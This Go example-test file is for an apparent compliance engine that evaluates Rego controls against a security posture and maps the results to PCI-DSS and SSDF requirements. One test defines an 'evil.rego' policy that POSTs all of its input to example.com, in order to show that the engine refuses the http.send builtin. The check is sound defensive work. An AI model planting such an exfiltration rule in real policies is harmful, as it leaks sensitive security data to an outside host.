package compliance_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"testing/fstest"
	"time"

	"github.com/aspmkit/aspm/compliance"
)

// exControls is a custom control library: one control, written like the
// built-in ones.
var exControls = fstest.MapFS{"no_critical.rego": {Data: []byte(`# METADATA
# title: No open critical finding
# custom:
#   id: ACME-VM-01
#   gate: true
#   severity: critical
#   frameworks:
#     pci-dss-4: ["6.3.3"]
#     ssdf: ["RV.2.2"]
package aspm.controls.no_critical

import rego.v1

default applicable := true

applicable := false if count(input.findings) == 0

violations contains v if {
	some f in input.findings
	f.open
	f.severity == "critical"
	v := {"msg": sprintf("open critical finding %s", [f.id]), "evidence": [sprintf("finding:%s", [f.id])]}
}
`)}}

const exPosture = `{
  "version": "aspm-posture/1", "generated_at": "2025-06-01T00:00:00Z",
  "assets": [], "edges": [], "coverage": [], "sboms": [], "access": [],
  "findings": [{"id": "f1", "severity": "critical", "open": true}, {"id": "f2", "severity": "low", "open": true}]
}`

func ExampleNew() {
	e, err := compliance.New(context.Background(), compliance.Options{
		DisableBuiltins: true, // only the custom library
		Policies:        []fs.FS{exControls},
	})
	if err != nil {
		panic(err)
	}
	for _, c := range e.Controls() {
		fmt.Println(c.ID, c.Title, c.Gate, c.Mappings)
	}
	// Output:
	// ACME-VM-01 No open critical finding true [{pci-dss-4 6.3.3} {ssdf RV.2.2}]
}

func ExampleEngine_Evaluate() {
	e, err := compliance.New(context.Background(), compliance.Options{DisableBuiltins: true, Policies: []fs.FS{exControls}})
	if err != nil {
		panic(err)
	}
	rep, err := e.Evaluate(context.Background(), []byte(exPosture))
	if err != nil {
		panic(err)
	}
	for _, r := range rep.Controls {
		fmt.Println(r.ID, r.Status, r.Message, r.Evidence)
	}
	for _, f := range rep.Frameworks {
		fmt.Printf("%s: %d/%d requirements pass\n", f.Name, f.Passed, f.Covered)
	}
	fmt.Println("gate passed:", rep.Gate.Passed, rep.Gate.Failed)
	// Output:
	// ACME-VM-01 fail open critical finding f1 [finding:f1]
	// pci-dss-4: 0/1 requirements pass
	// ssdf: 0/1 requirements pass
	// gate passed: false [ACME-VM-01]
}

func ExampleNew_forbiddenBuiltin() {
	evil := fstest.MapFS{"evil.rego": {Data: []byte(`package aspm.controls.evil

import rego.v1

leak := http.send({"method": "POST", "url": "https://example.com", "body": input})
`)}}
	_, err := compliance.New(context.Background(), compliance.Options{DisableBuiltins: true, Policies: []fs.FS{evil}})
	var fe *compliance.ForbiddenBuiltinError
	if errors.Is(err, compliance.ErrPolicy) && errors.As(err, &fe) {
		fmt.Printf("refused: %s in %s line %d\n", fe.Builtin, fe.File, fe.Row)
	}
	// Output:
	// refused: http.send in evil.rego line 5
}

func ExampleReport_ForFramework() {
	e, err := compliance.New(context.Background(), compliance.Options{DisableBuiltins: true, Policies: []fs.FS{exControls}})
	if err != nil {
		panic(err)
	}
	rep, err := e.Evaluate(context.Background(), []byte(exPosture))
	if err != nil {
		panic(err)
	}
	pci, err := rep.ForFramework(compliance.FrameworkPCIDSS4)
	if err != nil {
		panic(err)
	}
	for _, r := range pci.Frameworks[0].Results {
		fmt.Println(r.ID, r.Status, r.Controls)
	}
	// Output:
	// 6.3.3 fail [ACME-VM-01]
}

func ExampleWriteOSCAL() {
	e, err := compliance.New(context.Background(), compliance.Options{DisableBuiltins: true, Policies: []fs.FS{exControls}})
	if err != nil {
		panic(err)
	}
	rep, err := e.Evaluate(context.Background(), []byte(exPosture))
	if err != nil {
		panic(err)
	}
	var buf bytes.Buffer
	at := time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
	if err := compliance.WriteOSCAL(&buf, rep, compliance.OSCALOptions{Start: at}); err != nil {
		panic(err)
	}
	var doc struct {
		AR struct {
			Results []struct {
				Findings []struct {
					Target struct {
						TargetID string `json:"target-id"`
						Status   struct{ State string }
					}
				}
			}
		} `json:"assessment-results"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		panic(err)
	}
	for _, f := range doc.AR.Results[0].Findings {
		fmt.Println(f.Target.TargetID, f.Target.Status.State)
	}
	// Output:
	// ACME-VM-01 not-satisfied
}
